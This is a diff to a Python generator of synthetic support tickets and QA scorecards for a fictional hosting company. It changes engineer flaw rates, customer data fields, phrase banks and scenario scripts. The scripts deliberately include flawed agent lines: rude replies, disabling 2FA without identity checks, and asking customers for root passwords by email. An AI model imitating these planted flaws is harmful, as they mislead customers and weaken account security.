@@ -143,7 +143,7 @@ SCORECARDS = [
                   "Ответ второй линии — в течение 24 часов с момента передачи, при аварии — в течение часа.",
                   na_allowed=False),
                 C("internal-note", "Оформлены ли внутренние заметки по результатам диагностики?",
-                  "Коллега, открывший тикет, по заметке понимает, что проверено и что сделано на сервере."),
+                  "Коллега, открывший тикет, по заметке понимает, что проверено и что сделано на сервере; N/A — если вся диагностика изложена в ответе клиенту."),
                 C("grammar", "Грамотность",
                   "Орфография, пунктуация и аккуратное оформление команд и конфигов в блоках кода."),
             ]},
@@ -274,19 +274,19 @@ def P(login, name, roles, teams, language="ru", **extra):
 
 # quality: expected number of minor flaws per ticket (drives the score spread)
 ENGINEERS = [
-    (P("a.smirnova", "Анна Смирнова", ["engineer"], ["first-line"]), 0.75),
-    (P("d.kozlov", "Дмитрий Козлов", ["engineer"], ["first-line"]), 2.6),
-    (P("e.volkova", "Екатерина Волкова", ["engineer"], ["first-line"]), 1.0),
-    (P("m.brennan", "Michael Brennan", ["engineer"], ["first-line"], "en"), 1.05),
-    (P("i.morozov", "Игорь Морозов", ["engineer"], ["second-line"]), 0.12),
+    (P("a.smirnova", "Анна Смирнова", ["engineer"], ["first-line"]), 0.9),
+    (P("d.kozlov", "Дмитрий Козлов", ["engineer"], ["first-line"]), 3.4),
+    (P("e.volkova", "Екатерина Волкова", ["engineer"], ["first-line"]), 1.4),
+    (P("m.brennan", "Michael Brennan", ["engineer"], ["first-line"], "en"), 1.6),
+    (P("i.morozov", "Игорь Морозов", ["engineer"], ["second-line"]), 0.2),
     (P("p.lebedev", "Павел Лебедев", ["engineer"], ["second-line"]), 0.8),
     (P("o.novikov", "Олег Новиков", ["engineer"], ["second-line"]), 1.1),
     (P("m.sokolova", "Мария Соколова", ["engineer"], ["calls"]), 0.7),
-    (P("n.pavlova", "Наталья Павлова", ["engineer"], ["calls"]), 0.7),
-    (P("a.fedorov", "Алексей Фёдоров", ["engineer"], ["chats"]), 0.9),
+    (P("n.pavlova", "Наталья Павлова", ["engineer"], ["calls"]), 0.5),
+    (P("a.fedorov", "Алексей Фёдоров", ["engineer"], ["chats"]), 1.2),
     (P("s.collins", "Sarah Collins", ["engineer"], ["chats"], "en"), 0.8),
     (P("y.popova", "Юлия Попова", ["engineer"], ["chats"]), 1.2),
-    (P("s.vasiliev", "Сергей Васильев", ["engineer"], ["paid-services"]), 0.5),
+    (P("s.vasiliev", "Сергей Васильев", ["engineer"], ["paid-services"]), 1.6),
     (P("a.mikhailov", "Артём Михайлов", ["engineer"], ["paid-services"]), 0.6),
 ]
 TRAINERS = [
@@ -300,6 +300,7 @@ TEAM_LEADS = [
     P("a.solovyov", "Андрей Соловьёв", ["team_lead"], ["first-line", "calls", "chats"]),
     P("r.egorov", "Роман Егоров", ["team_lead"], ["second-line", "paid-services"]),
 ]
+QUALITY = {p["email"].split("@")[0]: q for p, q in ENGINEERS}
 # which trainers score which team (first = main), the admin scores a few of everything
 TRAINER_FOR_TEAM = {
     "first-line": ["o.belova", "i.zaytseva"],
@@ -317,6 +318,17 @@ EVAL_COUNT = {"a.smirnova": 7, "d.kozlov": 7, "e.volkova": 7, "m.brennan": 6,
 CRITICAL_PLAN = {"d.kozlov": "wrong", "n.pavlova": "no_ident", "a.mikhailov": "no_backup"}
 # calibration: (engineer, team) whose evaluated ticket gets a second trainer's opinion
 CALIBRATION_PLAN = ["m.sokolova", "a.smirnova", "y.popova", "p.lebedev"]
+
+
+# how the Russian-speaking engineers sign English replies
+NAME_EN = {"a.smirnova": "Anna Smirnova", "d.kozlov": "Dmitry Kozlov", "e.volkova": "Ekaterina Volkova",
+           "i.morozov": "Igor Morozov", "p.lebedev": "Pavel Lebedev", "o.novikov": "Oleg Novikov",
+           "m.sokolova": "Maria Sokolova", "n.pavlova": "Natalia Pavlova", "a.fedorov": "Alexey Fedorov",
+           "y.popova": "Yulia Popova", "s.vasiliev": "Sergey Vasiliev", "a.mikhailov": "Artem Mikhailov"}
+
+
+def display_name(login, person, lang):
+    return NAME_EN.get(login, person["name"]) if lang == "en" else person["name"]
 
 
 def login_of(email):
@@ -408,7 +420,7 @@ def make_customers(rng):
         else:
             email = f"{translit(first)[0]}.{translit(last)}@{rng.choice(RU_MAIL)}"
         customers.append({"name": f"{first} {last}", "first": first, "email": email,
-                          "lang": "ru", "site": f"{site}.example"})
+                          "lang": "ru", "site": f"{site}.example", "female": female})
     for i, site in enumerate(EN_SITES):
         first, last = EN_FIRST[i], EN_LAST[(i * 7) % len(EN_LAST)]
         if rng.random() < 0.6:
@@ -416,7 +428,26 @@ def make_customers(rng):
         else:
             email = f"{slugify(first)}.{slugify(last)}@{rng.choice(EN_MAIL)}"
         customers.append({"name": f"{first} {last}", "first": first, "email": email,
-                          "lang": "en", "site": f"{site}.example"})
+                          "lang": "en", "site": f"{site}.example", "female": False})
+    used_acc = set()
+    for c in customers:
+        while True:
+            num = rng.randint(100000, 899999)
+            if num not in used_acc:
+                used_acc.add(num)
+                break
+        c["acc"], c["acc_l"] = f"DH-{num}", f"u{num}"
+        c["ip"] = f"203.0.113.{rng.randint(10, 250)}"
+        c["ip2"] = f"198.51.100.{rng.randint(10, 250)}"
+        c["vps"] = f"vps-{rng.randint(10000, 99999)}"
+        c["ds"] = f"ds-{rng.randint(1000, 9999)}"
+        if c["lang"] == "ru":
+            c["phone"] = f"+7 9XX XXX-{rng.randint(10, 99)}-{rng.randint(10, 99)}"
+            local = rng.choice(["info", "sales", "office", translit(c["first"])])
+        else:
+            c["phone"] = rng.choice(["+44 7XXX XXX", "+49 15X XXXX", "+31 6 XXXX "]) + f"{rng.randint(100, 999)}"
+            local = rng.choice(["info", "hello", slugify(c["first"])])
+        c["mbox"] = f"{local}@{c['site']}"
     # e-mail addresses must be unique
     seen = set()
     for c in customers:
@@ -547,7 +578,7 @@ def inject_typos(paras, lang, rng, found, limit=2):
 
 PH = {
     "ru": {
-        "c_greet": ["Здравствуйте!", "Добрый день!", "Добрый день.", "Здравствуйте.", "Доброе утро!", None],
+        "c_greet": ["Здравствуйте!", "Добрый день!", "Добрый день.", "Здравствуйте.", "Приветствую!", None],
         "c_sign": ["{cname}", "С уважением, {cname}", "Спасибо.\n{cname}", "{cfirst}",
                    "С уважением,\n{cname}\n{site}"],
         "e_greet1": ["Здравствуйте, {cfirst}!", "Здравствуйте!", "Добрый день, {cfirst}!",
@@ -559,7 +590,8 @@ PH = {
         "curt_greet": ["Добрый день.", None],
         "curt_sign": ["Техподдержка", "Поддержка ДемоХост"],
         "curt_prefix": ["Информация есть в базе знаний, но повторю.", "Отвечаю по существу."],
-        "rude": ["Мы уже отвечали на подобный вопрос — читайте, пожалуйста, письма внимательнее.",
+        # [0] fits a second answer, [1] a first one
+        "rude": ["Я же написал выше — читайте ответы внимательнее.",
                  "Всё это есть в базе знаний, перед обращением стоило её посмотреть."],
         "confirm": [["Спасибо, всё работает!"], ["Заработало, благодарю."],
                     ["Отлично, спасибо за помощь!"], ["Да, теперь всё в порядке. Спасибо!"],
@@ -567,7 +599,7 @@ PH = {
         "close": [["Рады помочь! Если появятся вопросы — пишите."],
                   ["Отлично, тогда закрываю заявку. Хорошего дня!"],
                   ["Спасибо, что сообщили. Обращайтесь!"]],
-        "nudge": [["Добрый день, есть новости по заявке?"],
+        "nudge": [["Есть новости по заявке?"],
                   ["Подскажите, пожалуйста, когда будет ответ? Проблема всё ещё актуальна."],
                   ["Уже полдня жду ответа. Вы вообще работаете?"]],
         "fix_prefix": ["Извините за краткий ответ — расписываю подробнее.", "Дополню свой предыдущий ответ."],
@@ -583,7 +615,7 @@ PH = {
         "chat_close_q": ["Могу ещё чем-нибудь помочь?", "Остались ещё вопросы?",
                          "Подскажите, могу ли я ещё чем-то помочь?"],
         "chat_close_a": ["Нет, спасибо!", "Нет, всё, спасибо большое", "Всё понятно, спасибо"],
-        "chat_bye": ["Хорошего дня! Обращайтесь.", "Рад был помочь, всего доброго!",
+        "chat_bye": ["Хорошего дня! Обращайтесь.", "Всегда рады помочь, всего доброго!",
                      "Спасибо за обращение, хорошего вечера!"],
         "chat_end_noclose": ["ок", "Понял", "ясно"],
         "call_agent": "Инженер", "call_cust": "Клиент",
@@ -600,7 +632,7 @@ PH = {
         "dur": "{m} мин {s} с",
     },
     "en": {
-        "c_greet": ["Hello,", "Hi,", "Hi there,", "Good morning,", "Hello support team,", None],
+        "c_greet": ["Hello,", "Hi,", "Hi there,", "Dear support,", "Hello support team,", None],
         "c_sign": ["Thanks,\n{cfirst}", "Best regards,\n{cname}", "Cheers, {cfirst}",
                    "Kind regards,\n{cname}\n{site}", "{cname}"],
         "e_greet1": ["Hello {cfirst},", "Hi {cfirst},", "Dear {cfirst},"],
@@ -610,8 +642,8 @@ PH = {
         "curt_greet": ["Hello.", None],
         "curt_sign": ["Support", "DemoHost Support"],
         "curt_prefix": ["As described in our knowledge base:", "To answer your question:"],
-        "rude": ["This is all covered in our documentation, please read it before contacting support.",
-                 "As I already wrote, please read the previous reply carefully."],
+        "rude": ["As I already wrote, read the previous reply carefully.",
+                 "This is all covered in our documentation — read it before contacting support."],
         "confirm": [["Thanks, it works now!"], ["All good now, thank you."],
                     ["Perfect, thanks for the quick help!"], ["Confirmed, everything works. Cheers!"]],
         "close": [["Glad to help! Feel free to reach out if anything else comes up."],
@@ -879,7 +911,8 @@ S(key="fl-2fa", team="first-line", lang="ru", tags=["panel", "security"], kind="
   wrong=["Отключили двухфакторную аутентификацию, можете входить по паролю."],
   wrong_tail=[("c", [["Спасибо, вошёл, подключил приложение заново."]])],
   na={"verified"},
-  tail=[("c", [["Отправляю фото паспорта."], ["Прикладываю письмо на бланке, подписано директором."]]),
+  tail=[("c", [["Отправляю фото паспорта."], ["Прикладываю письмо на бланке, подписано директором."]],
+         [("scan-{acc_l}.jpg", "image/jpeg", (350_000, 900_000))]),
         ("e", [["Спасибо, данные совпадают с договором. Двухфакторная аутентификация отключена — можно входить по паролю. Рекомендуем сразу подключить её заново и сохранить резервные коды."]]),
         ("c?", [["Вошёл, подключил заново. Спасибо!"]])],
   hints={"thin": "Попросил «документы», не уточнив, какие и как их прислать",
@@ -891,7 +924,7 @@ S(key="fl-malware", team="first-line", lang="ru", tags=["security", "hosting"], 
   subj=["На сайте выскакивает реклама", "Сайт заражён вирусом?", "Яндекс пишет, что {dom} опасен"],
   open=[["Сегодня на сайте {dom} при открытии выскакивает окно с рекламой казино, а Яндекс пишет, что сайт может угрожать безопасности. Мы ничего не меняли. Что делать?"],
         ["Антивирус в панели прислал письмо, что на аккаунте {acc} найдены вредоносные файлы. С сайтом вроде всё нормально, но клиенты жалуются на переадресацию на странные сайты с телефона."]],
-  reply=["Антивирус хостинга нашёл на аккаунте {acc} 14 заражённых файлов: вредоносный код внедрён в index.php и в файлы темы. По логам заражение произошло {date_before} через устаревший плагин формы обратной связи (уязвимость известна с весны).",
+  reply=["Антивирус хостинга обнаружил на аккаунте {acc} 14 заражённых файлов: вредоносный код внедрён в index.php и в файлы темы. По логам заражение произошло {date_before} через устаревший плагин формы обратной связи (уязвимость известна с весны).",
          "Что рекомендуем сделать:",
          ("ul", ["восстановить сайт из резервной копии за {date_before2} — в ней заражённых файлов нет (раздел «Резервные копии», только файлы сайта);",
                  "сразу после восстановления обновить CMS и все плагины, удалить неиспользуемые;",
@@ -901,7 +934,7 @@ S(key="fl-malware", team="first-line", lang="ru", tags=["security", "hosting"], 
   attach_e=[("malware-report-{acc_l}.txt", "text/plain", (3_000, 9_000))],
   wa=["Если восстановление из копии не подходит, можно запустить «Антивирус» → «Вылечить» — он удалит известные вставки, но уязвимость в плагине останется, поэтому его всё равно нужно обновить."],
   thin=["Запустите антивирус в панели."],
-  ask=["Запустил, он нашёл 14 файлов. Дальше что? Их удалять? А сайт не сломается?"],
+  ask=["Запустил — найдено 14 файлов. Дальше что? Их удалять? А сайт не сломается?"],
   consult=(["Вторая линия, проверьте, пожалуйста, не рассылается ли с аккаунта {acc} спам — сайт заражён, вставка в index.php."],
            ["Проверил: исходящей почты с аккаунта за сутки 12 писем, всё легитимное. Заражение только в файлах. Вход через contact-form-old, в access.log POST на его upload.php."]),
   tail=[("c", [["Восстановили из копии и всё обновили, реклама пропала. Спасибо за подробный план!"],
@@ -1317,7 +1350,8 @@ S(key="call-charge", team="calls", lang="ru", tags=["billing"], kind="call", zty
           ("A", "Оформил возврат, номер заявки R-{n}. Подтверждение пришлю на почту."),
           ("C", "Спасибо, до свидания.")],
   summary=["Клиент ({ident_note}) сообщил о двойном списании 2 990 ₽ {date_before}. Проверил платежи: второй — дубль из-за таймаута платёжного шлюза.",
-           "По желанию клиента оформлен возврат на карту, заявка R-{n}, срок 3–7 рабочих дней. Клиенту отправлено письмо с подтверждением."],
+           "По желанию клиента оформлен возврат на карту, заявка R-{n}, срок 3–7 рабочих дней."],
+  summary_follow=["Клиенту отправлено письмо с подтверждением."],
   summary_thin=["Клиент звонил по оплате, оформил возврат."],
   followup=["По итогам нашего разговора: по договору {acc} оформлен возврат повторного платежа 2 990 ₽ от {date_before} на карту, с которой производилась оплата. Номер заявки — R-{n}.",
             "Деньги поступят в течение 3–7 рабочих дней, точный срок зависит от банка."],
@@ -1343,7 +1377,8 @@ S(key="call-suspended", team="calls", lang="ru", tags=["billing", "hosting"], ki
           ("A", "Чтобы это не повторилось, могу прислать ссылку на подключение автоплатежа."),
           ("C", "Да, пришлите, спасибо.")],
   summary=["Клиент ({ident_note}): сайт {dom} не открывался — хостинг приостановлен {date_before} за отрицательный баланс. Клиент оплатил 1 190 ₽ во время звонка, услуга включилась, сайт проверен — открывается.",
-           "Отправлено письмо со ссылкой на подключение автоплатежа. Клиенту рекомендовано проверить папку «Спам» — напоминания попадали туда."],
+           "Клиенту рекомендовано проверить папку «Спам» — напоминания попадали туда."],
+  summary_follow=["Отправлено письмо со ссылкой на подключение автоплатежа."],
   summary_thin=["Клиент оплатил, сайт работает."],
   followup=["Спасибо за звонок! Услуга хостинга по договору {acc} снова активна.",
             "Чтобы услуга не приостанавливалась, подключите автоплатёж: [[https://my.demohost.example/billing/autopay|настройка автоплатежа]]. И добавьте адрес billing@demohost.example в контакты — тогда напоминания не будут попадать в спам."],
@@ -1388,11 +1423,12 @@ S(key="call-email-change", team="calls", lang="ru", tags=["panel", "security"], 
           ("A", "Письмо можно прислать сканом ответом на письмо, которое я сейчас отправлю, — обычно меняем адрес в течение рабочего дня. Доступ к сайту по FTP и к файлам у вас при этом остаётся, обновлять сайт можно.", "!interrupt"),
           ("C", "Хорошо, пришлём сегодня.")],
   summary=["Клиент ({ident_note}) потерял доступ к контактной почте, на которую приходит восстановление пароля. Смена email возможна только по письму владельца договора — разъяснил порядок.",
-           "Отправил письмо с требованиями к заявлению. Ждём скан, после проверки меняем контактный адрес."],
+           "Ждём скан заявления, после проверки меняем контактный адрес."],
+  summary_follow=["Отправил клиенту письмо с требованиями к заявлению."],
   summary_thin=["Клиент хочет сменить почту, объяснил."],
   followup=["Как договорились по телефону: для смены контактного адреса по договору {acc} пришлите, пожалуйста, ответом на это письмо скан заявления на бланке организации с подписью руководителя и печатью. В заявлении укажите номер договора и новый адрес.",
             "После проверки заявления сменим адрес в течение рабочего дня и сообщим вам."],
-  tail=[("c", [["Прикладываем заявление."]]),
+  tail=[("c", [["Прикладываем заявление."]], [("zayavlenie-{acc_l}.pdf", "application/pdf", (90_000, 260_000))]),
         ("e", [["Спасибо, заявление проверили — контактный адрес изменён. Теперь восстановление пароля придёт на новую почту."]])],
   hints={"no_ident": "Не идентифицировал звонящего в вопросе смены контактных данных — риск угона аккаунта",
          "ident_partial": "Ограничился номером договора, хотя вопрос касается доступа к аккаунту",
@@ -1430,7 +1466,8 @@ S(key="call-refund", team="calls", lang="ru", tags=["billing"], kind="call", zty
           ("C", "Понял. Пришлите, пожалуйста, форму."),
           ("A", "Отправлю на почту в течение пяти минут. Деньги возвращаются в течение 10 рабочих дней после получения заявления.")],
   summary=["Клиент ({ident_note}) расторгает договор, просит вернуть остаток 4 215 ₽. Разъяснил: заявление на бланке с реквизитами, отключение в указанную клиентом дату, данные хранятся 30 дней. Рекомендовал заранее скачать архив сайта и почты.",
-           "Форма заявления отправлена клиенту на почту."],
+           ],
+  summary_follow=["Форма заявления отправлена клиенту на почту."],
   summary_thin=["Клиент хочет закрыть договор, отправил форму."],
   followup=["Направляем форму заявления на расторжение договора {acc} и возврат остатка средств (4 215 ₽ на сегодня) — файл во вложении.",
             "Заполните реквизиты и дату отключения услуг, подпишите и пришлите скан ответом на это письмо. Возврат — в течение 10 рабочих дней после получения заявления."],
@@ -1488,7 +1525,7 @@ S(key="chat-ns", team="chats", lang="ru", tags=["domain", "dns"], kind="chat", z
 
 S(key="chat-promo", team="chats", lang="ru", tags=["billing"], kind="chat", ztype="question",
   subj=["Чат: не применяется промокод", "Чат: промокод недействителен", "Чат: скидка на VPS"],
-  open=["Добрый вечер, промокод AUTUMN30 не применяется при заказе VPS, пишет «недействителен»",
+  open=["Добрый день, промокод AUTUMN30 не применяется при заказе VPS, пишет «недействителен»",
         "Здравствуйте, почему не работает промокод AUTUMN30? Заказываю сервер"],
   turns=[("e", "Промокод AUTUMN30 действует только на первый заказ виртуального хостинга, на VPS он не распространяется — это указано в условиях акции.", "!wrong"),
          ("e", "Промокод действует, введите его ещё раз маленькими буквами, без пробелов.", "wrong"),
@@ -1629,6 +1666,7 @@ S(key="chat-ssh-en", team="chats", lang="en", tags=["vps", "ssh"], kind="chat",
 # unverified, slow, typos.
 
 S(key="paid-migration", team="paid-services", lang="ru", tags=["migration", "vps"], kind="paid", ztype="task",
+  backup_line=["Перед началом сделали полную резервную копию сайта и базы на исходном хостинге и снапшот {srv}."],
   subj=["Перенос сайта и почты с другого хостинга", "Платный перенос интернет-магазина на VPS", "Миграция {dom} к вам"],
   open=[["Хотим перенести сайт {dom} (Битрикс, база около 3 ГБ) и почту с другого хостинга к вам на VPS {srv}. Сколько стоит и сколько займёт? Важно без простоя — это интернет-магазин."],
         ["Нужен перенос интернет-магазина {dom} на ваш VPS: файлы, база, 12 почтовых ящиков. Можете взяться? Нужна смета."]],
@@ -1663,6 +1701,7 @@ S(key="paid-migration", team="paid-services", lang="ru", tags=["migration", "vps
          "good": "Подробная смета, переключение ночью с заглушкой, отчёт с результатами проверки"})
 
 S(key="paid-lemp", access_na=True, team="paid-services", lang="ru", tags=["vps", "nginx"], kind="paid", ztype="task",
+  backup_line=["Перед началом работ сделали снапшот {srv} (snap-{n}), он хранится 7 дней."],
   subj=["Настроить VPS под Laravel", "Платная настройка сервера: nginx + PHP + PostgreSQL", "Подготовить {srv} под проект"],
   open=[["Купили VPS {srv} (Ubuntu 24.04), нужно подготовить его под проект на Laravel: nginx, PHP 8.3, PostgreSQL, Redis, SSL на {dom}, очереди через supervisor. Сколько будет стоить?"],
         ["Нужна настройка чистого VPS {srv} под Laravel-приложение с очередями и Redis. Разработчик задеплоит сам, от вас — окружение."]],
@@ -1676,6 +1715,7 @@ S(key="paid-lemp", access_na=True, team="paid-services", lang="ru", tags=["vps",
   access_bad=["Пришлите root-пароль от сервера ответом на это письмо."],
   no_quote_reply=["Хорошо, настроим. Приступаем."],
   agree=["Согласны, оплатили. Ключ разработчика во вложении."],
+  agree_attach=[("deploy-key.pub", "text/plain", (90, 120))],
   agree_plain=["Оплатили. Root-пароль: (удалён из тикета сотрудником поддержки)."],
   agree_noquote=["Спасибо. А по цене сориентируете?"],
   work_note=["Снапшот {srv} перед началом: snap-{n}. Ставлю nginx/php8.3-fpm/postgresql-16/redis, пользователь deploy."],
@@ -1698,6 +1738,7 @@ S(key="paid-lemp", access_na=True, team="paid-services", lang="ru", tags=["vps",
          "good": "Подробный отчёт с версиями, пользователями и результатами проверки"})
 
 S(key="paid-mail", access_na=True, team="paid-services", lang="ru", tags=["mail", "vps"], kind="paid", ztype="task",
+  backup_line=["Перед установкой сделали снапшот {srv} (snap-{n}), он хранится 7 дней."],
   subj=["Настроить почтовый сервер на VPS", "Платная настройка Postfix + Dovecot", "Свой почтовый сервер для {dom}"],
   open=[["Хотим поднять свою почту для {dom} на VPS {srv}: около 20 ящиков, веб-интерфейс, антиспам. Сделаете? Сколько стоит?"],
         ["Нужен почтовый сервер на нашем VPS {srv} для домена {dom}, с DKIM и нормальной доставляемостью. Оцените, пожалуйста."]],
@@ -1711,6 +1752,7 @@ S(key="paid-mail", access_na=True, team="paid-services", lang="ru", tags=["mail"
   access_bad=["Пришлите список ящиков и пароли к ним ответом на это письмо."],
   no_quote_reply=["Хорошо, настроим почтовый сервер."],
   agree=["Счёт оплатили, список ящиков во вложении."],
+  agree_attach=[("spisok-yashchikov.xlsx", "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet", (9_000, 16_000))],
   agree_plain=["Оплатили, список ящиков с паролями ниже (удалено из тикета сотрудником поддержки)."],
   agree_noquote=["Список ящиков во вложении. Цену так и не назвали, сколько выйдет?"],
   work_note=["Снапшот {srv} перед установкой: snap-{n}. Ставлю postfix/dovecot/rspamd/roundcube, PTR заказан в сетевом отделе."],
@@ -1767,6 +1809,10 @@ S(key="paid-audit", access_na=True, team="paid-services", lang="ru", tags=["secu
          "good": "Отчёт разбит по уровням риска, сразу предложено исправление с бэкапом"})
 
 S(key="paid-mysql-upgrade", access_na=True, team="paid-services", lang="ru", tags=["mysql", "vps"], kind="paid", ztype="task",
+  report_nb=["MySQL обновлён до 8.0.40. Что сделано:",
+             ("ul", ["проверка совместимости — 2 некритичных предупреждения, исправлены в конфигурации (sql_mode);",
+                     "обновление в ночь на четверг, простой — 22 минуты."]),
+             "Проверили: все 6 баз открываются, сайты работают, ошибок в журнале MySQL нет."],
   subj=["Обновить MySQL 5.7 до 8.0", "Платное обновление MySQL на {srv}", "Переход на MySQL 8"],
   open=[["На VPS {srv} стоит MySQL 5.7, поддержка закончилась. Нужно обновить до 8.0, там 6 баз, самая большая — 9 ГБ. Сколько стоит и какой будет простой?"],
         ["Разработчики просят MySQL 8 на {srv}. Сейчас 5.7. Можете обновить аккуратно, чтобы ничего не потерять?"]],
@@ -1801,6 +1847,7 @@ S(key="paid-mysql-upgrade", access_na=True, team="paid-services", lang="ru", tag
          "good": "Снапшот и дамп до обновления, проверка совместимости, отчёт с результатами"})
 
 S(key="paid-migration-en", team="paid-services", lang="en", tags=["migration", "hosting"], kind="paid", ztype="task",
+  backup_line=["Before starting we took a full backup of the source account and a snapshot of the target account."],
   subj=["Move our WordPress sites from another provider", "Paid migration of 3 WordPress sites", "Migration quote for {dom}"],
   open=[["We have three WordPress sites ({dom} and two smaller ones) at another provider and want to move them to your hosting. Can you do the migration for us? What's the price?"],
         ["Looking for a managed migration of {dom} (WooCommerce, ~4 GB) to your hosting with minimal downtime. Please send a quote."]],
@@ -1835,6 +1882,10 @@ S(key="paid-migration-en", team="paid-services", lang="en", tags=["migration", "
          "good": "Чёткая смета, перенос с режимом только для чтения, отчёт с проверками"})
 
 S(key="paid-os-en", access_na=True, team="paid-services", lang="en", tags=["vps", "upgrade"], kind="paid", ztype="task",
+  report_nb=["The upgrade is done, {srv} is now on Ubuntu 22.04.5 LTS. Summary:",
+             ("ul", ["PostgreSQL upgraded 12 → 14, PHP 7.4 → 8.1 (FPM pool settings carried over);",
+                     "downtime: 47 minutes."]),
+             "Checked: the app's login and main pages, background jobs in cron, database connections, no errors in nginx/PHP logs."],
   subj=["Upgrade Ubuntu 20.04 to 22.04 on our VPS", "Paid OS upgrade for {srv}", "Ubuntu 20.04 end of support — upgrade quote"],
   open=[["Our VPS {srv} runs Ubuntu 20.04, which is out of standard support. Can you upgrade it to 22.04 for us? It runs nginx, PHP and PostgreSQL for our app."],
         ["We need an in-place upgrade of {srv} from Ubuntu 20.04 to 22.04. What's the price and the expected downtime?"]],
@@ -1889,13 +1940,16 @@ def _fem_init():
     рекомендовал перевёл переименовал прописал поменял перенёс подключил вошёл смотрел
     создал оплатил звонил пробовал нажал вышел решил подумал сохранил почистил
     выполнил обновил сбросил отключил закрыл забыл отправлял перепутал учёл привёл
-    проверял предупредил зафиксировал не_проверил дал""".split()
+    проверял предупредил зафиксировал дал очистил ограничил продлил подсказал поднял
+    представился провёл сказал согласовал списал успел объяснял настроил приложил снизил
+    видел добавил запустил исправил купил менял написал перезагружал покупал прислал потерял""".split()
     special = {"нашёл": "нашла", "ошибся": "ошиблась", "разобрался": "разобралась",
                "ограничился": "ограничилась", "дождался": "дождалась", "поддался": "поддалась",
                "ушёл": "ушла", "перевёл": "перевела", "перенёс": "перенесла", "вошёл": "вошла",
-               "учёл": "учла", "привёл": "привела", "вышел": "вышла"}
+               "учёл": "учла", "привёл": "привела", "вышел": "вышла",
+               "провёл": "провела", "представился": "представилась"}
     for w in words:
-        if w.startswith("не_") or w.endswith("а"):
+        if w.endswith("а"):
             continue
         FEM_VERBS[w] = special.get(w, w + "а")
 
@@ -1922,7 +1976,7 @@ def feminize_paras(paras):
 # ---------------------------------------------------------------------------------------
 
 TEAM_COUNTS = {"first-line": 42, "second-line": 35, "calls": 21, "chats": 31, "paid-services": 21}
-EN_SHARE = {"first-line": 0.33, "second-line": 0.30, "calls": 0.10, "chats": 0.40, "paid-services": 0.24}
+EN_SHARE = {"first-line": 0.33, "second-line": 0.31, "calls": 0.10, "chats": 0.42, "paid-services": 0.24}
 ESCALATED_SHARE = 0.9          # share of tickets of escalation-type L2 scenarios that came via L1
 
 # minor flaws: team -> [(flag, weight, scenario field it needs or None)]
@@ -1931,7 +1985,7 @@ MINOR_FLAGS = {
                    ("unverified", 1.5, "unv_fail"), ("slow", 2, None), ("typos", 2.5, None),
                    ("curt", 1.5, None), ("bad_tags", 1.5, None), ("bad_note", 1.2, "consult")],
     "second-line": [("shallow", 3, "shallow"), ("no_workaround", 1.5, "wa"), ("unverified", 1.5, "unv_fail"),
-                    ("slow", 2, None), ("typos", 2, None), ("no_note", 2, None)],
+                    ("slow", 2, None), ("typos", 2, None)],
     "calls": [("misread", 1.5, "d:misread"), ("interrupt", 1.5, "d:interrupt"), ("no_greeting", 2, None),
               ("no_summary", 2, None), ("no_followup", 2, "followup"), ("typos", 1.2, None)],
     "chats": [("slow_chat", 3, None), ("thin", 2.5, "t:thin"), ("misread", 2, "t:misread"),
@@ -1978,7 +2032,7 @@ def pick_minor_flags(rng, team, sc, lam, consult):
     return flags
 
 
-def plan_tickets(rng, customers):
+def plan_tickets(rng, customers, flag_seed):
     engineers = {p["email"]: p for p, _ in ENGINEERS}
     quality = {login_of(p["email"]): q for p, q in ENGINEERS}
     team_members = {t["id"]: [login_of(p["email"]) for p, _ in ENGINEERS if t["id"] in p["teams"]]
@@ -1996,6 +2050,11 @@ def plan_tickets(rng, customers):
     times.sort()
     teams = [t for t, c in TEAM_COUNTS.items() for _ in range(c)]
     rng.shuffle(teams)
+    # an exact number of English tickets per team, spread at random
+    english = set()
+    for team, count in TEAM_COUNTS.items():
+        pos = [i for i, t in enumerate(teams) if t == team]
+        english |= set(rng.sample(pos, round(count * EN_SHARE[team])))
 
     by_team_lang = {}
     for sc in SCENARIOS:
@@ -2010,7 +2069,7 @@ def plan_tickets(rng, customers):
 
     plans = []
     for idx, (created, team) in enumerate(zip(times, teams)):
-        lang = "en" if rng.random() < EN_SHARE[team] else "ru"
+        lang = "en" if idx in english else "ru"
         pool = by_team_lang[(team, lang)]
         low = min(usage[s["key"]] for s in pool)
         sc = rng.choice([s for s in pool if usage[s["key"]] <= low])
@@ -2037,18 +2096,19 @@ def plan_tickets(rng, customers):
             channel = "chat"
         else:
             channel = "email" if rng.random() < 0.68 else "web"
-        consult = team == "first-line" and bool(sc.get("consult")) and rng.random() < 0.35
-        flags = pick_minor_flags(rng, team, sc, quality[eng], consult)
+        frng = Random(flag_seed + idx)
+        consult = team == "first-line" and bool(sc.get("consult")) and frng.random() < 0.35
+        flags = pick_minor_flags(frng, team, sc, quality[eng], consult)
         if consult:
             flags.add("consult")
-        if "curt" in flags and quality[eng] > 2 and rng.random() < 0.5:
+        if "curt" in flags and quality[eng] > 2 and frng.random() < 0.5:
             flags.add("rude")
-        esc = bool(sc.get("esc")) and rng.random() < ESCALATED_SHARE
+        esc = bool(sc.get("esc")) and frng.random() < ESCALATED_SHARE
         plans.append({
             "idx": idx, "created": created, "team": team, "lang": lang, "sc": sc, "eng": eng,
             "cust": cust, "channel": channel, "flags": flags, "esc": esc,
-            "l1": rng.choice(team_members["first-line"]) if esc else None,
-            "l2": rng.choice(team_members["second-line"]) if consult else None,
+            "l1": frng.choice(team_members["first-line"]) if esc else None,
+            "l2": frng.choice(team_members["second-line"]) if consult else None,
             "solved": True, "hostile": None,
         })
     return plans
@@ -2064,7 +2124,7 @@ def choose_unsolved(rng, plans):
             p["solved"] = False
     target = round(0.15 * len(plans))
     older = [p for p in plans if p["solved"] and p["team"] != "chats"
-             and p["created"] < recent - dt.timedelta(days=3)]
+             and NOW - dt.timedelta(days=28) < p["created"] < recent]
     rng.shuffle(older)
     per_eng = {}
     for p in plans:
@@ -2073,7 +2133,7 @@ def choose_unsolved(rng, plans):
     for p in older:
         if sum(1 for q in plans if not q["solved"]) >= target:
             break
-        if per_eng[p["eng"]] > EVAL_COUNT[p["eng"]] + 2 and p["created"] > WINDOW_START + dt.timedelta(days=40):
+        if per_eng[p["eng"]] > EVAL_COUNT[p["eng"]] + 1:
             p["solved"] = False
             per_eng[p["eng"]] -= 1
 
@@ -2176,7 +2236,7 @@ class Conversation:
             s = pick(rng, ph["e_sign1"] if first else ph["e_sign2"])
         return ([g] if g else []) + list(paras) + ([s] if s else [])
 
-    def add(self, role, paras, delay=None, attach=None, wrap=None, via=None, hostile=None):
